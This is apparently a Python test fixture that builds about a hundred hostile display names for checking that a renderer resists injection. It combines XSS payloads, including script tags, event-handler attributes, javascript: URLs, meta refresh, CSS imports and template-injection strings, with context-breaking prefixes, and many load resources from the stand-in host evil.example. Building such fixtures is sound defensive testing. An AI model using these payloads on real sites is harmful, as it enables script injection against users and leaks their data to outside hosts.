"""A hundred names that ask whoever shows them to run a script, to ask another host, or to obey a control character."""

from itertools import product

from tests.test_foreign_text import HOSTILE

HOST = "http://evil.example"
_SCRIPT = "window.obeyed=1;alert(1)"
_TAGS = (
    f"<script>{_SCRIPT}</script>",
    f"<script src={HOST}/x.js></script>",
    f"<img src=x onerror='{_SCRIPT}'>",
    f"<img src={HOST}/x.png>",
    f"<svg onload='{_SCRIPT}'></svg>",
    f"<svg><use href='{HOST}/x.svg#a'/></svg>",
    f"<iframe src='javascript:{_SCRIPT}'></iframe>",
    f'<iframe srcdoc="<script>parent.{_SCRIPT}</script>"></iframe>',
    f"<link rel=stylesheet href={HOST}/x.css>",
    f"<style>@import '{HOST}/x.css';</style>",
    f"<p style=\"background:url('{HOST}/x.png')\">p</p>",
    f"<video poster={HOST}/x.png></video>",
    f"<object data='{HOST}/x'></object>",
    f"<embed src='{HOST}/x'>",
    f"<base href='{HOST}/'>",
    f"<meta http-equiv=refresh content='0;url={HOST}/'>",
    f"<form action={HOST}><input autofocus onfocus='{_SCRIPT}'></form>",
    f"<details open ontoggle='{_SCRIPT}'>d</details>",
    f"<a href='javascript:{_SCRIPT}'>a</a>",
    f"<math><mtext><img src=x onerror='{_SCRIPT}'></mtext></math>",
)
_BREAKS = ("", '">', "'>", "--></style></script></title></textarea>")
_OTHERS = (
    f"![x]({HOST}/x.png)",
    f"[x](javascript:{_SCRIPT})",
    f"![x][y]\n\n[y]: {HOST}/x.png",
    f'" onmouseover="{_SCRIPT}" style="position:fixed;inset:0',
    f"{{{{constructor.constructor('{_SCRIPT}')()}}}}",
    f"${{{_SCRIPT}}}",
)
NAMES = [*HOSTILE, *_OTHERS, *(start + tag for tag, start in product(_TAGS, _BREAKS))]
